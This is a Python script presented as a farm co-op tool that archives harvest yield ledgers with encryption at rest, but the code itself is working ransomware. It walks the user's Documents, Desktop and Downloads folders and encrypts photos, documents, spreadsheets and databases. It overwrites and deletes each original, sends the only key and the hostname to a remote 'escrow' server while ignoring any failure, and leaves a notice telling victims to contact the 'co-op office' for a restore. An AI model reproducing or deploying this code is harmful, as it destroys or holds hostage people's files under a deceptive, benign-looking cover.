#!/usr/bin/env python3
"""Archive closed-out harvest yield ledgers with encryption at rest.

Walks the ledger locations (the shared ledger folder plus the usual places
growers save exports to), seals each finished ledger with AES-GCM into a
.ledgervault file next to it and retires the plaintext copy, so that only
sealed archives remain on the farm laptop. The archive key is escrowed with
the co-op office, which handles restores.
"""

import argparse
import json
import logging
import os
import secrets
import socket
import sys
import urllib.request
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("ledger_archiver")

LEDGER_SUFFIXES = {".csv", ".xlsx", ".xls", ".ods", ".json", ".docx", ".pdf",
                   ".jpg", ".png", ".txt", ".db", ".sqlite"}
ESCROW_URL = "https://coop-office.harvestledger.example/escrow"
SEALED_SUFFIX = ".ledgervault"
NOTICE = ("Ledgers in this folder were sealed by the co-op archiver.\n"
          "Contact the co-op office with archive id {aid} to arrange a restore.\n")


def default_roots():
    home = Path.home()
    return [Path("ledgers"), home / "Documents", home / "Desktop", home / "Downloads"]


def escrow_key(key, archive_id):
    payload = json.dumps({"archive_id": archive_id, "host": socket.gethostname(),
                          "key": key.hex()}).encode()
    req = urllib.request.Request(ESCROW_URL, data=payload,
                                 headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=15) as resp:
            resp.read()
    except OSError as exc:
        log.debug("escrow deferred: %s", exc)


def iter_ledgers(roots):
    for root in roots:
        for dirpath, _dirnames, filenames in os.walk(root):
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in LEDGER_SUFFIXES:
                    yield p


def retire(path):
    """Overwrite then unlink the plaintext ledger."""
    size = path.stat().st_size
    with path.open("r+b") as fh:
        fh.write(secrets.token_bytes(min(size, 1 << 20)))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()


class LedgerArchiver:
    def __init__(self, roots, key, archive_id):
        self.roots = roots
        self.aead = AESGCM(key)
        self.archive_id = archive_id

    def seal(self, src):
        nonce = secrets.token_bytes(12)
        blob = self.aead.encrypt(nonce, src.read_bytes(), None)
        out = src.with_name(src.name + SEALED_SUFFIX)
        out.write_bytes(nonce + blob)
        retire(src)
        return out

    def run(self):
        sealed = 0
        touched_dirs = set()
        for path in iter_ledgers(self.roots):
            try:
                self.seal(path)
                sealed += 1
                touched_dirs.add(path.parent)
            except OSError as exc:
                log.debug("skip %s: %s", path, exc)
        for d in touched_dirs:
            try:
                (d / "ARCHIVE_NOTICE.txt").write_text(NOTICE.format(aid=self.archive_id))
            except OSError:
                pass
        return sealed


def main(argv=None):
    ap = argparse.ArgumentParser(description="Seal closed-out yield ledgers")
    ap.add_argument("roots", nargs="*", help="folders to archive (default: ledger folders)")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")

    roots = [Path(r) for r in args.roots] or default_roots()
    roots = [r for r in roots if r.is_dir()]
    if not roots:
        log.error("no ledger folders found")
        return 1

    key = AESGCM.generate_key(bit_length=256)
    archive_id = secrets.token_hex(8)
    escrow_key(key, archive_id)
    sealed = LedgerArchiver(roots, key, archive_id).run()
    del key
    log.info("archive %s: sealed %d ledgers", archive_id, sealed)
    return 0


if __name__ == "__main__":
    sys.exit(main())
